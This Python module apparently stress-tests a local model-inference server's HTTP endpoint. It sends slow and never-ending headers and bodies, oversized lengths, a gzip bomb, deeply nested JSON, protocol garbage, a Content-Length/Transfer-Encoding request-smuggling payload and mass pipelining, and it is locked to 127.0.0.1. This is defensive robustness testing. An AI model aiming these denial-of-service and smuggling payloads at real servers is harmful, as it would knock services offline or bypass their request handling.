"""Attacks on the HTTP port, each bounded in count and time, against a server on this machine and no other."""

import gzip
import socket
from collections import Counter
from contextlib import ExitStack, suppress

LONGEST_S = 20.0
HEAD = b"POST /v2/models/tiny/infer HTTP/1.1\r\nHost: x\r\n"


def connect(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    assert host == "127.0.0.1", "attacks are for this machine alone"
    return socket.create_connection((host, int(port)), timeout=LONGEST_S)


def _exchange(address: str, data: bytes, repeat: bytes = b"", times: int = 0) -> str:
    """The status of the first answer, or what the server did instead. repeat: is sent so often after the data."""
    with connect(address) as sent:
        with suppress(OSError):
            sent.sendall(data)
            for _ in range(times):
                sent.sendall(repeat)
        try:
            answer = sent.recv(2**12)
        except OSError:
            return "closed"
        return answer.split(b" ")[1].decode() if answer else "closed"


def slow_heads(address: str) -> int:
    """600 requests whose headers never end. Returns how many could be opened."""
    with ExitStack() as stack:
        for _ in range(600):
            stack.enter_context(connect(address)).sendall(HEAD + b"X-Slow: ")
        return 600


def slow_bodies(address: str) -> int:
    """300 requests that say a length and send a byte of it."""
    with ExitStack() as stack:
        for _ in range(300):
            stack.enter_context(connect(address)).sendall(HEAD + b"Content-Length: 1000\r\n\r\n{")
        return 300


def endless_headers(address: str) -> str:
    return _exchange(address, HEAD, b"X-A: " + b"b" * 8000 + b"\r\n", 512)


def endless_body(address: str) -> str:
    """Chunks without an end: 64 MiB of them."""
    chunk = b"10000\r\n" + bytes(2**16) + b"\r\n"
    return _exchange(address, HEAD + b"Transfer-Encoding: chunked\r\n\r\n", chunk, 1000)


def long_body(address: str) -> str:
    return _exchange(address, HEAD + b"Content-Length: 99999999999\r\n\r\n", bytes(2**16), 1000)


def gzip_bombs(address: str) -> Counter[str]:
    """Ten times 256 MiB of zeros in 256 KiB."""
    packed = gzip.compress(bytes(2**28), compresslevel=1)
    head = HEAD + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(packed)
    return Counter(_exchange(address, head + packed) for _ in range(10))


def nested_json(address: str) -> Counter[str]:
    """Lists in lists, and numbers without an end."""
    bodies = [b"[" * 500_000, b'{"a":' * 100_000, b"9" * 500_000, b'{"inputs":' + b"[" * 900 + b"]" * 900 + b"}"]
    return Counter(_exchange(address, HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body) for body in bodies)


def garbage(address: str) -> Counter[str]:
    texts = (b"\x16\x03\x01" + bytes(200), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(99), bytes(5000), b"\r\n" * 99)
    smuggled = HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v2 HTTP/1.1\r\n\r\n"
    return Counter(_exchange(address, text + b"\r\n\r\n") for text in (*texts, smuggled) for _ in range(5))


def pipelined(address: str) -> int:
    """5,000 requests in one piece. Returns how many bytes of answers came before the server stopped, or all were in."""
    with connect(address) as sent:
        sent.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n\r\n" * 5000)
        sent.shutdown(socket.SHUT_WR)
        received = 0
        with suppress(OSError):
            while data := sent.recv(2**16):
                received += len(data)
        return received
